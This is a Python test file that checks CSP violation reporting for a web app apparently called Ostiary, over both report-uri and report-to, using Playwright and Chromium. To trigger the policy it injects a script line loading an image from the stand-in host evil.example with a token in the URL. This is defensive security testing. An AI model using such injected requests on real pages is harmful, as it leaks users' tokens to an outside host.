"""A violation on a page of ours, as a real browser reports it: over http by `report-uri`, over https by `report-to`."""

from __future__ import annotations

import os
import sqlite3
import time
from contextlib import closing
from typing import TYPE_CHECKING, Any

from tests.csp_reports.wire import Wire, trusted_at_home, wire_to
from tests.services.chromium import find_certutil, find_chromium
from tests.services.parts import CERTUTIL, CHROMIUM, do_without
from tests.services.ports import free_port

if TYPE_CHECKING:
    from pathlib import Path

    from playwright.sync_api import Browser, Page, Playwright
    from tests.services.fixtures import StartOstiary

SEND_SOON = "--short-reporting-delay"
"""Chromium gathers reports for a minute; with this it sends them at once."""
LOAD_FROM_ELSEWHERE = "new Image().src = 'https://evil.example/secret.png?token=secret#top'"
LOOK = "SELECT directive, blocked, page, source, sample FROM csp_reports"
EXPECTED = ("img-src", "https://evil.example", "/auth/sign-in", "", "")


def provoke(page: Page, wire: Wire) -> None:
    """Do on the sign-in page what its policy forbids, and wait for what the browser says of it."""
    page.goto(f"{wire.url}/auth/sign-in?next=/auth/account")
    page.evaluate(LOAD_FROM_ELSEWHERE)
    end = time.monotonic() + 20
    while not wire.reports:
        assert time.monotonic() < end, "no report came"
        page.wait_for_timeout(100)


def kept(data: Path) -> list[tuple[str, ...]]:
    """Return what the house has kept; read beside it, as the browser has lent its loop to this thread."""
    end = time.monotonic() + 10
    with closing(sqlite3.connect(data / "ostiary.db")) as database:
        while not (rows := database.execute(LOOK).fetchall()):
            assert time.monotonic() < end, "nothing was kept"
            time.sleep(0.1)
    return rows


def test_over_http_a_violation_arrives_by_report_uri(page: Page, start_ostiary: StartOstiary, tmp_path: Path) -> None:
    port = free_port()
    house = start_ostiary(environment={"OSTIARY_WEB__PUBLIC_URL": f"http://localhost:{port}"})
    with wire_to(house.port, port) as wire:
        provoke(page, wire)
        rows = kept(tmp_path / "data")

    headers, _ = wire.reports[0]
    assert headers["content-type"] == "application/csp-report"
    assert headers["sec-fetch-dest"] == "report"
    assert headers["sec-fetch-site"] == "same-origin"
    assert headers["cookie"]  # which is why the house must not look at it
    assert headers["x-csrf-token"] is None
    assert rows == [EXPECTED]


def test_over_https_a_violation_arrives_by_report_to(
    playwright: Playwright, browser_type_launch_args: dict[str, Any], start_ostiary: StartOstiary, tmp_path: Path
) -> None:
    certutil = find_certutil()
    if certutil is None:
        do_without(CERTUTIL)
    program = find_chromium()  # whole: its shell has no Reporting API
    if program is None:
        do_without(CHROMIUM)
    home = tmp_path / "home"
    home.mkdir()
    tls = trusted_at_home(home, certutil)
    port = free_port()
    house = start_ostiary(environment={"OSTIARY_WEB__PUBLIC_URL": f"https://localhost:{port}"})
    launch = {**browser_type_launch_args, "executable_path": str(program), "env": {**os.environ, "HOME": str(home)}}
    launch["args"] = [*launch["args"], SEND_SOON]
    browser: Browser = playwright.chromium.launch(**launch)
    try:
        with wire_to(house.port, port, tls) as wire:
            provoke(browser.new_page(), wire)
            rows = kept(tmp_path / "data")
    finally:
        browser.close()

    assert [headers["content-type"] for headers, _ in wire.reports] == ["application/reports+json"]
    assert rows == [EXPECTED]
